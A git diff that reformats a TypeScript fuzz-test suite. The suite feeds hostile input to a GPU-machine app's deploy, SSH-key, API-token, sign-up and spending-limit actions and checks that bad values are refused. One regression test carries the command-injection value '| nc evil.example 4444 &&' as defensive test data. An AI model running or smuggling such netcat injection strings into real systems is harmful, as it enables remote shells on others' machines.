@@ -1,10 +1,39 @@
 import crypto from "node:crypto";
 import { describe, expect, it } from "vitest";
-import { getOperationsView, getProbeView, getProcessesView, getSetupView, requestOperation, requestProbe, requestSetup, trustHostKey } from "@/lib/checkpoints";
-import { authenticateBearer, createApiToken, revokeApiToken, addProviderKey, deleteProviderKey, deleteSshKey, generateSshKey, getSshKey, registerSshKey } from "@/lib/settings";
+import {
+  getOperationsView,
+  getProbeView,
+  getProcessesView,
+  getSetupView,
+  requestOperation,
+  requestProbe,
+  requestSetup,
+  trustHostKey,
+} from "@/lib/checkpoints";
+import {
+  authenticateBearer,
+  createApiToken,
+  revokeApiToken,
+  addProviderKey,
+  deleteProviderKey,
+  deleteSshKey,
+  generateSshKey,
+  getSshKey,
+  registerSshKey,
+} from "@/lib/settings";
 import { signUp } from "@/lib/auth/sign-up";
 import { isDomainError } from "@/lib/errors";
-import { deployMachine, listOffersForUser, destroyMachine, startMachine, stopMachine, getMachineDetail, adoptFinding, destroyFinding, registerByoMachine } from "@/lib/machines";
+import {
+  deployMachine,
+  listOffersForUser,
+  destroyMachine,
+  startMachine,
+  stopMachine,
+  getMachineDetail,
+  adoptFinding,
+  destroyFinding,
+  registerByoMachine,
+} from "@/lib/machines";
 import { removeMachineLimit, saveBudget, saveMachineLimit } from "@/lib/spending";
 import { useRandomSecretKey } from "@/test/file-env";
 import { useSandboxEnv } from "@/test/sandbox-env";
@@ -34,7 +63,8 @@ async function outcomeOf(fn: () => Promise<unknown>): Promise<Outcome> {
     if (r && typeof r === "object" && "ok" in r && r.ok === false) {
       const x = r as { error?: string; fieldErrors?: Record<string, string>; errors?: Record<string, string> };
       // A refusal must say why.
-      if (!x.error && !Object.keys(x.fieldErrors ?? x.errors ?? {}).length) return { kind: "crashed", message: "ok:false without a message" };
+      if (!x.error && !Object.keys(x.fieldErrors ?? x.errors ?? {}).length)
+        return { kind: "crashed", message: "ok:false without a message" };
       return { kind: "refused" };
     }
     return { kind: "accepted" };
@@ -70,27 +100,63 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
         const before = await countRows();
         const o = await outcomeOf(() => c.run(v));
         if (o.kind === "crashed") failures.push(`${c.name}(${label(v)}) crashed: ${o.message}`);
-        else if (o.kind === "accepted" && !(typeof c.mayAccept === "function" ? c.mayAccept(v) : c.mayAccept)) failures.push(`${c.name}(${label(v)}) was accepted`);
+        else if (o.kind === "accepted" && !(typeof c.mayAccept === "function" ? c.mayAccept(v) : c.mayAccept))
+          failures.push(`${c.name}(${label(v)}) was accepted`);
         else if (o.kind === "refused") {
           const after = await countRows();
-          if (JSON.stringify(after) !== JSON.stringify(before)) failures.push(`${c.name}(${label(v)}) was refused but changed rows`);
+          if (JSON.stringify(after) !== JSON.stringify(before))
+            failures.push(`${c.name}(${label(v)}) was refused but changed rows`);
         }
       }
     }
     expect(failures).toEqual([]);
   }
 
-  const field = <T extends Record<string, unknown>>(name: string, base: () => T, run: (input: T) => Promise<unknown>, valid: Record<string, Case["mayAccept"]> = {}) =>
-    Object.keys(base()).map((k): Case => ({ name: `${name}.${k}`, run: (v) => run({ ...base(), [k]: v }), mayAccept: valid[k] }));
-  const whole = (name: string, run: (v: unknown) => Promise<unknown>): Case => ({ name: `${name}(input)`, run, values: [...HOSTILE_STRINGS.slice(0, 8), null, undefined, 42, [], ["x"], true] });
+  const field = <T extends Record<string, unknown>>(
+    name: string,
+    base: () => T,
+    run: (input: T) => Promise<unknown>,
+    valid: Record<string, Case["mayAccept"]> = {},
+  ) =>
+    Object.keys(base()).map(
+      (k): Case => ({ name: `${name}.${k}`, run: (v) => run({ ...base(), [k]: v }), mayAccept: valid[k] }),
+    );
+  const whole = (name: string, run: (v: unknown) => Promise<unknown>): Case => ({
+    name: `${name}(input)`,
+    run,
+    values: [...HOSTILE_STRINGS.slice(0, 8), null, undefined, 42, [], ["x"], true],
+  });
 
   it("machine actions: deploy, register, stop, start, destroy", async () => {
     const db = t.db;
     let n = 0;
-    const deployBase = () => ({ provider: "tensordock", offerId, gpuCount: 1, diskGb: 100, image: "ubuntu-22.04", sshKeyId: u.sshKeyId, name: "fz-ok", requestKey: `fz-${n++}` });
-    const byoBase = () => ({ name: "fz-byo", host: "10.0.0.1", port: 22, user: "root", sshKeyId: u.sshKeyId, gpuModel: "H100", gpuCount: 1, pricePerHour: 1, provider: "hostkey" });
+    const deployBase = () => ({
+      provider: "tensordock",
+      offerId,
+      gpuCount: 1,
+      diskGb: 100,
+      image: "ubuntu-22.04",
+      sshKeyId: u.sshKeyId,
+      name: "fz-ok",
+      requestKey: `fz-${n++}`,
+    });
+    const byoBase = () => ({
+      name: "fz-byo",
+      host: "10.0.0.1",
+      port: 22,
+      user: "root",
+      sshKeyId: u.sshKeyId,
+      gpuModel: "H100",
+      gpuCount: 1,
+      pricePerHour: 1,
+      provider: "hostkey",
+    });
     await check([
-      ...field("deploy", deployBase, (i) => deployMachine(db, u.userId, i), { requestKey: true, name: matches(/^[A-Za-z0-9][A-Za-z0-9._-]*$/), image: (v) => v === undefined || matches(/^[A-Za-z0-9][A-Za-z0-9._:/@-]*$/)(v) }),
+      ...field("deploy", deployBase, (i) => deployMachine(db, u.userId, i), {
+        requestKey: true,
+        name: matches(/^[A-Za-z0-9][A-Za-z0-9._-]*$/),
+        image: (v) => v === undefined || matches(/^[A-Za-z0-9][A-Za-z0-9._:/@-]*$/)(v),
+      }),
       whole("deploy", (v) => deployMachine(db, u.userId, v)),
       ...field("registerByo", byoBase, (i) => registerByoMachine(db, u.userId, i), {
         gpuModel: true,
@@ -120,7 +186,10 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
     await check([
       { name: "probe(id)", run: (v) => requestProbe(db, u.userId, String(v), jobs) },
       { name: "setup(id)", run: (v) => requestSetup(db, u.userId, String(v), jobs) },
-      { name: "operation(id)", run: (v) => requestOperation(db, u.userId, String(v), { pid: 1, action: "checkpoint" }, jobs) },
+      {
+        name: "operation(id)",
+        run: (v) => requestOperation(db, u.userId, String(v), { pid: 1, action: "checkpoint" }, jobs),
+      },
       ...field("operation", () => ({ pid: u.pid, action: "checkpoint", criu: false }), op),
       whole("operation", (v) => requestOperation(db, u.userId, u.machineId, v, jobs)),
       { name: "trustHostKey(id)", run: (v) => trustHostKey(db, u.userId, String(v), u.hostKeyActual, jobs) },
@@ -137,16 +206,39 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
     const db = t.db;
     await check([
       // Any printable key is the user's to store (checked with the provider first, sealed).
-      ...field("addProviderKey", () => ({ provider: "runpod", apiKey: "sbx-fuzz-runpod-1" }), (i) => addProviderKey(db, u.userId, i), { apiKey: true }),
+      ...field(
+        "addProviderKey",
+        () => ({ provider: "runpod", apiKey: "sbx-fuzz-runpod-1" }),
+        (i) => addProviderKey(db, u.userId, i),
+        { apiKey: true },
+      ),
       whole("addProviderKey", (v) => addProviderKey(db, u.userId, v)),
       { name: "deleteProviderKey(id)", run: (v) => deleteProviderKey(db, u.userId, v) },
-      ...field("generateSshKey", () => ({ name: "fz" }), (i) => generateSshKey(db, u.userId, i), { name: true }),
+      ...field(
+        "generateSshKey",
+        () => ({ name: "fz" }),
+        (i) => generateSshKey(db, u.userId, i),
+        { name: true },
+      ),
       whole("generateSshKey", (v) => generateSshKey(db, u.userId, v)),
-      ...field("registerSshKey", () => ({ name: "fz", publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG2m9C0xZ0e3y3lq8lUu0cK2QXkq0K0M1h8S1c2c1d2e x" }), (i) => registerSshKey(db, u.userId, i), { name: true }),
+      ...field(
+        "registerSshKey",
+        () => ({
+          name: "fz",
+          publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG2m9C0xZ0e3y3lq8lUu0cK2QXkq0K0M1h8S1c2c1d2e x",
+        }),
+        (i) => registerSshKey(db, u.userId, i),
+        { name: true },
+      ),
       whole("registerSshKey", (v) => registerSshKey(db, u.userId, v)),
       { name: "deleteSshKey(id)", run: (v) => deleteSshKey(db, u.userId, v) },
       { name: "getSshKey(id)", run: (v) => getSshKey(db, u.userId, v) },
-      ...field("createApiToken", () => ({ name: "fz" }), (i) => createApiToken(db, u.userId, i), { name: true }),
+      ...field(
+        "createApiToken",
+        () => ({ name: "fz" }),
+        (i) => createApiToken(db, u.userId, i),
+        { name: true },
+      ),
       whole("createApiToken", (v) => createApiToken(db, u.userId, v)),
       { name: "revokeApiToken(id)", run: (v) => revokeApiToken(db, u.userId, v) },
       { name: "authenticateBearer", run: (v) => authenticateBearer(db, `Bearer ${String(v)}`) },
@@ -158,12 +250,20 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
   it("sign-up", async () => {
     const db = t.db;
     let n = 0;
-    const base = () => ({ name: "Fuzz", email: `fz-${n++}-${crypto.randomUUID().slice(0, 6)}@example.com`, password: "correct horse battery" });
+    const base = () => ({
+      name: "Fuzz",
+      email: `fz-${n++}-${crypto.randomUUID().slice(0, 6)}@example.com`,
+      password: "correct horse battery",
+    });
     await check([
       // A display name is free text; only strings reach the hash (argon2 is slow: strings only).
       { name: "signUp.name", run: (v) => signUp(db, { ...base(), name: v }), mayAccept: true, values: HOSTILE_STRINGS },
       { name: "signUp.email", run: (v) => signUp(db, { ...base(), email: v }) },
-      { name: "signUp.password", run: (v) => signUp(db, { ...base(), password: v }), values: HOSTILE.filter((v) => !(typeof v === "string" && v.length >= 10 && v.length <= 200)) },
+      {
+        name: "signUp.password",
+        run: (v) => signUp(db, { ...base(), password: v }),
+        values: HOSTILE.filter((v) => !(typeof v === "string" && v.length >= 10 && v.length <= 200)),
+      },
       whole("signUp", (v) => signUp(db, v)),
     ]);
   });
@@ -172,10 +272,19 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
     const db = t.db;
     const enqueue = async () => {};
     await check([
-      ...field("saveBudget", () => ({ amount: "100", action: "warn" }), (i) => saveBudget(db, u.userId, i, enqueue)),
+      ...field(
+        "saveBudget",
+        () => ({ amount: "100", action: "warn" }),
+        (i) => saveBudget(db, u.userId, i, enqueue),
+      ),
       whole("saveBudget", (v) => saveBudget(db, u.userId, v, enqueue)),
       // endsAt: blank means "no end time" (the cap is set). Other strings: see the known issue below.
-      ...field("saveMachineLimit", () => ({ machineId: u.machineId, cap: "10", endsAt: "", action: "warn" }), (i) => saveMachineLimit(db, u.userId, i, enqueue), { endsAt: (v) => v === undefined || typeof v === "string" }),
+      ...field(
+        "saveMachineLimit",
+        () => ({ machineId: u.machineId, cap: "10", endsAt: "", action: "warn" }),
+        (i) => saveMachineLimit(db, u.userId, i, enqueue),
+        { endsAt: (v) => v === undefined || typeof v === "string" },
+      ),
       whole("saveMachineLimit", (v) => saveMachineLimit(db, u.userId, v, enqueue)),
     ]);
   });
@@ -183,7 +292,14 @@ describe.each((await availableDrivers()).slice(-1))("hostile input on %s", (driv
   // Once known issues in the Spending feature, fixed since: they stay as plain tests.
   it("endsAt refuses text that is not a date", async () => {
     // `new Date("| nc evil.example 4444 &&Z")` is a valid date (year 4444) to V8's lenient parser.
-    const r = await outcomeOf(() => saveMachineLimit(t.db, u.userId, { machineId: u.machineId, endsAt: "| nc evil.example 4444 &&", action: "warn" }, async () => {}));
+    const r = await outcomeOf(() =>
+      saveMachineLimit(
+        t.db,
+        u.userId,
+        { machineId: u.machineId, endsAt: "| nc evil.example 4444 &&", action: "warn" },
+        async () => {},
+      ),
+    );
     expect(r.kind).toBe("refused");
   });
   it("removeMachineLimit with a NUL in the id is not a crash", async () => {
